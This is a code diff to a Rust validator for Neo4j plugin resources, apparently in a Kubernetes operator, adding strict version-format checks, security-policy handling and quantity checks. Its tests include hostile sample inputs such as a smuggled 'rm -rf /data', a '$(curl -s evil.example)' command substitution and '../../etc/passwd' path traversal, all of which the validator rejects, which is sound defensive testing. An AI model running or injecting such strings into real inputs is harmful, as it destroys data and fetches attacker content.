@@ -20,7 +20,14 @@ use crate::verdict::Verdict;
 
 const INSTALL_MODES: [&str; 3] = ["Managed", "PreBaked", "VerifiedDownload"];
 const SOURCE_TYPES: [&str; 4] = ["official", "community", "custom", "url"];
-const SECURITY_POLICIES: [&str; 3] = ["strict", "moderate", "permissive"];
+/// Every policy the reference accepts: its validator's three and the two its docs write.
+const SECURITY_POLICIES: [&str; 5] = ["strict", "moderate", "permissive", "open", "restricted"];
+
+/// A plugin version: letters, digits, `.`, `-` and `+`, starting with a letter or digit, at most
+/// 64 characters (`5.26.0`, `v2.13.4`, `5.26.0-rc.1+build.7`). It names an artifact, so it must
+/// never carry shell or path syntax.
+static PLUGIN_VERSION: LazyLock<Regex> =
+    LazyLock::new(|| super::regex(r"^[A-Za-z0-9][A-Za-z0-9.+-]{0,63}$"));
 const URL_MAX: usize = 2048;
 /// Longest container name (a DNS-1123 label).
 const CONTAINER_NAME_MAX: usize = 63;
@@ -112,15 +119,26 @@ pub fn create(obj: &Neo4jPlugin) -> Verdict {
         ),
         Some(name) => plugin_name(&mut v, "spec.name", name, verified),
     }
-    if set(&s.version).is_none() {
-        v.error(
+    match set(&s.version) {
+        None => v.error(
             "plugin-version-required",
             "spec.version",
             "is empty; set the plugin version, e.g. 5.26.0",
-        );
-    }
-    if let (Some(name), Some(version)) = (set(&s.name), set(&s.version)) {
-        compatibility(&mut v, name, version);
+        ),
+        Some(version) if !PLUGIN_VERSION.is_match(version) => v.error(
+            "plugin-version-format",
+            "spec.version",
+            format!(
+                "{} ({} characters) is not a version; use letters, digits, '.', '-' and '+' only, at most 64 characters, e.g. 5.26.0 or 2.13.4+build.1",
+                shown(version),
+                version.chars().count()
+            ),
+        ),
+        Some(version) => {
+            if let Some(name) = set(&s.name) {
+                compatibility(&mut v, name, version);
+            }
+        }
     }
     if let Some(src) = &s.source {
         source(&mut v, src);
@@ -372,17 +390,23 @@ fn verified_download(v: &mut Verdict, obj: &Neo4jPlugin) {
 }
 
 fn security(v: &mut Verdict, sec: &PluginSecurity) {
-    if let Some(policy) = set(&sec.security_policy)
-        && !SECURITY_POLICIES.contains(&policy)
-    {
-        v.error(
-            "plugin-security-policy",
-            "spec.security.securityPolicy",
-            format!(
-                "{} is not a policy; use strict, moderate or permissive",
-                shown(policy)
-            ),
-        );
+    if let Some(policy) = set(&sec.security_policy) {
+        if SECURITY_POLICIES.contains(&policy) {
+            v.warn(
+                "field-not-implemented",
+                "spec.security.securityPolicy",
+                format!("spec.security.securityPolicy ({}) is accepted and kept, but this operator version does not act on it yet", shown(policy)),
+            );
+        } else {
+            v.error(
+                "plugin-security-policy",
+                "spec.security.securityPolicy",
+                format!(
+                    "{} is not a policy; use strict, moderate, permissive, open or restricted",
+                    shown(policy)
+                ),
+            );
+        }
     }
     let denied = sec.denied_procedures.as_deref().unwrap_or_default();
     for (list, name) in [
@@ -434,18 +458,21 @@ fn resources(v: &mut Verdict, r: &PluginResourceRequirements) {
             format!("{n} is negative; set 0 or more"),
         );
     }
-    for (field, value, example) in [
-        ("memoryLimit", &r.memory_limit, "512Mi or 1Gi"),
-        ("cpuLimit", &r.cpu_limit, "500m or 1"),
+    for (field, resource, value, example) in [
+        ("memoryLimit", "memory", &r.memory_limit, "512Mi or 1Gi"),
+        ("cpuLimit", "cpu", &r.cpu_limit, "500m or 1"),
     ] {
-        if let Some(q) = set(value)
-            && !loose_quantity(q)
-        {
+        let Some(q) = set(value) else { continue };
+        let field = format!("spec.resources.{field}");
+        if !loose_quantity(q) {
             v.error(
                 "plugin-resources",
-                format!("spec.resources.{field}"),
+                field,
                 format!("{} is not a quantity; write e.g. {example}", shown(q)),
             );
+        } else {
+            // What the reference's loose check lets through must still be a usable quantity.
+            super::quantities::quantity_value(&field, resource, q, v);
         }
     }
 }
@@ -526,6 +553,13 @@ mod tests {
             hit("plugin-version-required", json!({"version": null})),
             hit("plugin-version-required", json!({"version": ""})),
             miss("plugin-version-required", json!({"version": "5.26.0"})),
+            hit("plugin-version-format", json!({"version": "5.26.0; rm -rf /data"})),
+            hit("plugin-version-format", json!({"version": "$(curl -s evil.example)"})),
+            hit("plugin-version-format", json!({"version": "../5.26.0"})),
+            hit("plugin-version-format", json!({"version": format!("5.{}", "1".repeat(63))})),
+            miss("plugin-version-format", json!({"version": format!("5.26.{}", "1".repeat(59))})),
+            miss("plugin-version-format", json!({"version": "5.26.0-rc.1+build.7"})),
+            miss("plugin-version-format", json!({"version": "v5.26.4"})),
             hit("plugin-name-charset", json!({"name": "apoc\",\"evil"})).warnings(&["plugin-unknown"]),
             hit("plugin-name-charset", json!({"name": "../../etc/passwd"})).warnings(&["plugin-unknown"]),
             hit("plugin-name-charset", with(verified(), json!({"name": "My_Plugin"}))).warnings(&["plugin-unknown"]),
@@ -584,8 +618,15 @@ mod tests {
             hit("plugin-dependency-constraint", json!({"dependencies": [{"name": "apoc", "versionConstraint": "latest"}]})),
             miss("plugin-dependency-constraint", json!({"dependencies": [{"name": "apoc", "versionConstraint": ">=5.26"}, {"name": "x", "versionConstraint": "1.2"}]})),
             // Security.
+            hit("resources-quantity-positive", json!({"resources": {"memoryLimit": "-1Gi"}})),
+            hit("resources-quantity-positive", json!({"resources": {"cpuLimit": "0"}})),
+            miss("resources-quantity-positive", json!({"resources": {"memoryLimit": "1Gi", "cpuLimit": "500m"}})),
             hit("plugin-security-policy", json!({"security": {"securityPolicy": "lax"}})),
-            miss("plugin-security-policy", json!({"security": {"securityPolicy": "moderate"}})),
+            // Every value the reference's validator or docs accept is admitted, with the notice
+            // that nothing acts on it yet.
+            miss("plugin-security-policy", json!({"security": {"securityPolicy": "moderate"}})).warnings(&["field-not-implemented"]),
+            miss("plugin-security-policy", json!({"security": {"securityPolicy": "open"}})).warnings(&["field-not-implemented"]),
+            miss("plugin-security-policy", json!({"security": {"securityPolicy": "restricted"}})).warnings(&["field-not-implemented"]),
             hit("plugin-security-overlap", json!({"security": {"allowedProcedures": ["apoc.*", "gds.*"], "deniedProcedures": ["gds.*"]}})),
             miss("plugin-security-overlap", json!({"security": {"allowedProcedures": ["apoc.*"], "deniedProcedures": ["apoc.load.*"]}})),
             hit("plugin-procedure-name", json!({"security": {"allowedProcedures": ["apoc.*,gds.*"]}})),
